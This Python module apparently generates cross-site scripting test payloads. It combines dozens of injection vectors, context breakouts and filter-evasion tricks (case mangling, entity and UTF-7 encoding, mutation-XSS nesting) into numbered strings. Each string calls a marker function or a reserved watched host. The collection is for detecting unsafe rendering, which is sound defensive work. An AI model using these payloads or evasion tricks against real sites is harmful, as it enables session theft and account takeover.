"""Texts that would run as a program in a page that took them for markup: made of a vector, what breaks out, a trick.

Each runs `top.pwned(NUMBER)` or asks for `//watched.invalid/NUMBER`, and marks the element it becomes with the
attribute `pwned`: a page that shows it as text does none of these.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

WATCHED = "watched.invalid"
_JS, _URL = "\x01", "\x02"  # stand for the call and the address until the tricks have changed the rest

# No spaces, quotes or capitals in the call, so that it stands in any of these.
VECTORS = [
    f"<img pwned src=x onerror={_JS}>",
    f"<svg pwned onload={_JS}>",
    f"<script pwned>{_JS}</script>",
    f"<script pwned src={_URL}></script>",
    f"<svg pwned><script>{_JS}</script></svg>",
    f"<svg pwned><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    f"<svg pwned><image href={_URL} /></svg>",
    f"<svg pwned><use href=data:image/svg+xml,<svg/onload={_JS}>></svg>",
    f'<iframe pwned srcdoc="<script>{_JS}</script>"></iframe>',
    f'<iframe pwned src="javascript:{_JS}"></iframe>',
    f"<iframe pwned src={_URL}></iframe>",
    f"<body pwned onload={_JS} onpageshow={_JS}>",
    f"<details pwned open ontoggle={_JS}>x</details>",
    f"<input pwned autofocus onfocus={_JS}>",
    f"<select pwned autofocus onfocus={_JS}></select>",
    f"<video pwned><source onerror={_JS}></video>",
    f"<video pwned poster={_URL}></video>",
    f"<audio pwned src=x onerror={_JS}></audio>",
    f'<object pwned data="javascript:{_JS}"></object>',
    f"<object pwned data={_URL}></object>",
    f"<embed pwned src={_URL}>",
    f'<a pwned href="javascript:{_JS}" tabindex=1 autofocus onfocus={_JS}>x</a>',
    f'<math pwned href="javascript:{_JS}">x</math>',
    f'<form pwned><button formaction="javascript:{_JS}" autofocus onfocus={_JS}>x</button></form>',
    f"<meta pwned http-equiv=refresh content=0;url={_URL}>",
    f"<base pwned href={_URL}>",
    f"<link pwned rel=stylesheet href={_URL}>",
    f"<link pwned rel=prefetch href={_URL}>",
    f"<style pwned>@import '{_URL}';</style>",
    f"<style pwned>*{{background:url({_URL})}}</style>",
    f"<b pwned style=background:url({_URL})>x</b>",
    f"<style>@keyframes k{{}}</style><b pwned style=animation-name:k onanimationstart={_JS}>x</b>",
    f"<marquee pwned onstart={_JS}>x</marquee>",
    f"<template><img></template><img pwned src=x onerror={_JS}>",
    f"<noscript><p title='</noscript><img pwned src=x onerror={_JS}>'></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><img pwned title='--&gt;<img src=x onerror={_JS}>'></math>",
    f"<img pwned src=x:x onerror={_JS} ",
    f"<<img pwned src=x onerror={_JS}>",
    f"javascript:{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    f"{{{{constructor.constructor('{_JS}')()}}}}",
    f"${{{_JS}}}",
    f"';{_JS};//",
    f"x onmouseover={_JS} onfocus={_JS} autofocus pwned ",
    f"*{{background:url({_URL})}}",
    f"&lt;img pwned src=x onerror={_JS}&gt;",
    "__proto__ constructor {name} $& $1 \\",
]
BREAKOUTS = [
    "",
    '">',
    "'>",
    "</span>",
    "</option></select>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    '"}]}',
    '" pwned autofocus tabindex=0 onfocus=' + _JS + ' x="',
    "\N{RIGHT-TO-LEFT OVERRIDE}",
]


TRICKS: list[Callable[[str], str]] = [
    lambda text: text,
    str.upper,
    lambda text: re.sub("[a-z]{2}", lambda pair: pair[0].title(), text),
    lambda text: re.sub(r"(?<=[a-z]) (?=[a-z])", "/", text),  # <img/src=x
    lambda text: re.sub(r"(?<=[a-z]) (?=[a-z])", "\n\t\f", text),
    lambda text: text.replace("=", "\t=\n"),
    lambda text: text.replace("javascript", "java&#9;scr&#105;pt"),
    lambda text: text.replace("<", "<\N{ZERO WIDTH SPACE}", 1) + text,
    lambda text: text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(">", "\N{FULLWIDTH GREATER-THAN SIGN}"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),  # UTF-7
]


@dataclass(frozen=True)
class Payload:
    number: int
    text: str

    @property
    def quoted(self) -> str:
        """For a URL."""
        return quote(self.text, safe="")


def payloads(count: int, first: int = 0) -> list[Payload]:
    """`count` of them from the number `first` on, all different.

    Forty-seven vectors, thirteen breakouts and eleven tricks have no common divisor: no three meet twice.
    """
    return [_payload(number) for number in range(first, first + count)]


def _payload(number: int) -> Payload:
    vector, breakout = VECTORS[number % len(VECTORS)], BREAKOUTS[number % len(BREAKOUTS)]
    text = TRICKS[number % len(TRICKS)](breakout + vector)
    return Payload(number, text.replace(_JS, f"top.pwned({number})").replace(_URL, f"//{WATCHED}/{number}"))
